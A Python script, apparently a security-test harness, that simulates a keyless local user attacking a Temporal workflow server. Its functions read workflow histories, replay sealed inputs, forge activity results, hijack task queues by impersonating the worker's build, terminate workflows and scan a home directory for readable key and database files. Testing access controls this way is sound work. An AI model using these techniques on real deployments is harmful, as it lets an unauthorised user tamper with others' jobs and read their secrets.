"""What another user of the machine can do who knows the server's address: a program of its own, without keys.

Started by root, it becomes the user ``nobody``. ``python stranger.py ADDRESS ACTION [ARGUMENT …]``
prints what it found as JSON.
"""

import asyncio
import json
import os
import sys
import uuid
from datetime import timedelta
from pathlib import Path
from typing import Any

from temporalio.api.command.v1 import Command, CompleteWorkflowExecutionCommandAttributes
from temporalio.api.common.v1 import Payload, Payloads, WorkflowType
from temporalio.api.deployment.v1 import WorkerDeploymentOptions
from temporalio.api.enums.v1 import CommandType, VersioningBehavior, WorkerVersioningMode
from temporalio.api.failure.v1 import ApplicationFailureInfo, Failure
from temporalio.api.taskqueue.v1 import TaskQueue
from temporalio.api.workflowservice.v1 import (
    DescribeTaskQueueRequest,
    PollActivityTaskQueueRequest,
    PollWorkflowTaskQueueRequest,
    RespondActivityTaskCompletedByIdRequest,
    RespondActivityTaskCompletedRequest,
    RespondActivityTaskFailedByIdRequest,
    RespondWorkflowTaskCompletedRequest,
    StartWorkflowExecutionRequest,
)
from temporalio.client import Client, WorkflowFailureError
from temporalio.service import RPCError

NOBODY = 65534


async def read(client: Client, workflow_id: str) -> Any:
    """Everything that the server tells about a workflow."""
    handle = client.get_workflow_handle(workflow_id)
    history = (await handle.fetch_history()).to_json()
    description = str((await handle.describe()).raw_description)
    answers = []
    for query in ("status", "__stack_trace", "__temporal_workflow_metadata"):
        try:
            answers.append(str(await handle.query(query)))
        except Exception as error:  # it says what it says
            answers.append(str(error))
    return {"history": history, "description": description, "answers": answers}


async def start(client: Client, kind: str, queue: str, *arguments: str) -> Any:
    """Start a workflow with plain arguments."""
    handle = await client.start_workflow(
        kind,
        args=[json.loads(text) for text in arguments],
        id=f"strange-{uuid.uuid4().hex[:6]}",
        task_queue=queue,
    )
    return await _end(client, handle.id)


async def copy(client: Client, source: str, kind: str, workflow_id: str, queue: str) -> Any:
    """Start a workflow with the sealed argument of another."""
    events = (await client.get_workflow_handle(source).fetch_history()).events
    given = events[0].workflow_execution_started_event_attributes.input
    await client.workflow_service.start_workflow_execution(
        StartWorkflowExecutionRequest(
            namespace="default",
            workflow_id=workflow_id,
            workflow_type=WorkflowType(name=kind),
            task_queue=TaskQueue(name=queue),
            input=given,
            request_id=uuid.uuid4().hex,
        )
    )
    return await _end(client, workflow_id)


async def answer(client: Client, workflow_id: str, activity: str, what: str) -> Any:
    """Answer an activity that runs in place of the worker that runs it."""
    handle = client.get_workflow_handle(workflow_id)
    described = (await handle.describe()).raw_description
    pending = next(each for each in described.pending_activities if each.activity_type.name == activity)
    named: dict[str, Any] = {
        "namespace": "default",
        "workflow_id": workflow_id,
        "run_id": described.workflow_execution_info.execution.run_id,
        "activity_id": pending.activity_id,
    }
    if what == "failure":
        info = ApplicationFailureInfo(type="JobFailed", non_retryable=True)
        failure = Failure(message="a word of a stranger", application_failure_info=info)
        await client.workflow_service.respond_activity_task_failed_by_id(
            RespondActivityTaskFailedByIdRequest(**named, failure=failure)
        )
        return what
    result = None
    if what == "plain":
        result = Payloads(payloads=[Payload(metadata={"encoding": b"json/plain"}, data=b'{"attempts": 99}')])
    if what == "heartbeat":
        result = pending.heartbeat_details
    if what == "input":
        events = (await handle.fetch_history()).events
        given = [each.activity_task_scheduled_event_attributes for each in events]
        result = next(each.input for each in given if each.activity_id == pending.activity_id)
    await client.workflow_service.respond_activity_task_completed_by_id(
        RespondActivityTaskCompletedByIdRequest(**named, result=result)
    )
    return what


async def tell(client: Client, workflow_id: str) -> Any:
    """Send a signal and a command."""
    handle = client.get_workflow_handle(workflow_id)
    await handle.signal("cancel", {"by": "a stranger"})
    refusals = []
    for given in ([{"job_id": 1, "verb": "pause", "by": "a stranger"}], []):
        try:
            await handle.execute_update("command", args=given, rpc_timeout=timedelta(seconds=20))
            refusals.append("carried out")
        except Exception as error:
            refusals.append(f"refused: {error.__cause__ or error}")
    return refusals


async def steal_activities(client: Client, queue: str) -> Any:
    """Wait for tasks of activities beside the worker, and answer them with nothing."""
    like = await _like_the_worker(client, queue)
    request = PollActivityTaskQueueRequest(
        namespace="default", task_queue=TaskQueue(name=queue), identity="stranger", deployment_options=like
    )

    async def poll() -> str:
        task = None
        while task is None or not task.task_token:  # the server answers a long poll with nothing now and then
            task = await client.workflow_service.poll_activity_task_queue(
                request, timeout=timedelta(seconds=90)
            )
        await client.workflow_service.respond_activity_task_completed(
            RespondActivityTaskCompletedRequest(
                namespace="default", task_token=task.task_token, deployment_options=like
            )
        )
        return task.workflow_execution.workflow_id

    return await _first([poll() for _ in range(20)])


async def steal_workflow(client: Client, queue: str) -> Any:
    """Wait for tasks of workflows beside the worker, and end what comes."""
    like = await _like_the_worker(client, queue)
    request = PollWorkflowTaskQueueRequest(
        namespace="default", task_queue=TaskQueue(name=queue), identity="stranger", deployment_options=like
    )
    done = Payloads(payloads=[Payload(metadata={"encoding": b"json/plain"}, data=b"{}")])

    async def poll() -> str:
        task = await client.workflow_service.poll_workflow_task_queue(request, timeout=timedelta(seconds=50))
        await client.workflow_service.respond_workflow_task_completed(
            RespondWorkflowTaskCompletedRequest(
                namespace="default",
                task_token=task.task_token,
                deployment_options=like,
                versioning_behavior=VersioningBehavior.VERSIONING_BEHAVIOR_PINNED,
                commands=[
                    Command(
                        command_type=CommandType.COMMAND_TYPE_COMPLETE_WORKFLOW_EXECUTION,
                        complete_workflow_execution_command_attributes=(
                            CompleteWorkflowExecutionCommandAttributes(result=done)
                        ),
                    )
                ],
            )
        )
        return task.workflow_execution.workflow_id

    return await _first([poll() for _ in range(20)])


async def _like_the_worker(client: Client, queue: str) -> WorkerDeploymentOptions | None:
    """Say that it is of the build that tasks go to; the server tells which."""
    described = await client.workflow_service.describe_task_queue(
        DescribeTaskQueueRequest(namespace="default", task_queue=TaskQueue(name=queue))
    )
    current = described.versioning_info.current_deployment_version
    if not current.build_id:
        return None
    return WorkerDeploymentOptions(
        deployment_name=current.deployment_name,
        build_id=current.build_id,
        worker_versioning_mode=WorkerVersioningMode.WORKER_VERSIONING_MODE_VERSIONED,
    )


async def _first(polls: list[Any]) -> str:
    print("waiting", flush=True)
    done, others = await asyncio.wait(
        [asyncio.ensure_future(poll) for poll in polls], return_when=asyncio.FIRST_COMPLETED
    )
    for each in others:
        each.cancel()
    return done.pop().result()


async def terminate(client: Client, workflow_id: str) -> Any:
    """End a workflow: what nothing prevents."""
    await client.get_workflow_handle(workflow_id).terminate("by a stranger")
    return "terminated"


async def _end(client: Client, workflow_id: str) -> Any:
    handle = client.get_workflow_handle(workflow_id)
    try:
        await asyncio.wait_for(handle.result(), 30)
        end = "completed"
    except WorkflowFailureError as error:
        end = f"{error.cause}"
    described = await handle.describe()
    events = (await handle.fetch_history()).to_json()
    return {"status": described.status.name, "end": end, "history": events}


def files(home: str) -> dict[str, list[str]]:
    """What of a home can be read, written or connected to."""
    found: dict[str, list[str]] = {"readable": [], "writable": [], "listed": []}
    for folder, folders, names in os.walk(home):
        found["listed"] += folders + names
        for name in [*names, *folders, "."]:
            path = Path(folder) / name
            if os.access(path, os.R_OK):
                found["readable"].append(str(path))
            if os.access(path, os.W_OK):
                found["writable"].append(str(path))
    for known in ("keys.json", "mltemporal.db", "stack/state.json", "stack/worker.log", "storage", "jobs"):
        if os.access(f"{home}/{known}", os.R_OK):
            found["readable"].append(known)
    return found


async def main() -> Any:
    address, action, *arguments = sys.argv[1:]
    if action == "files":
        return files(*arguments)
    client = await Client.connect(address)
    try:
        return await globals()[action](client, *arguments)
    except RPCError as error:
        return f"refused by the server: {error.message}"


def become_nobody() -> None:
    """Give up every right for good; after the imports, since Python may lie where only root looks."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


if __name__ == "__main__":
    become_nobody()
    print(json.dumps(asyncio.run(main())), flush=True)
    os._exit(0)  # its client may crash at the interpreter's end
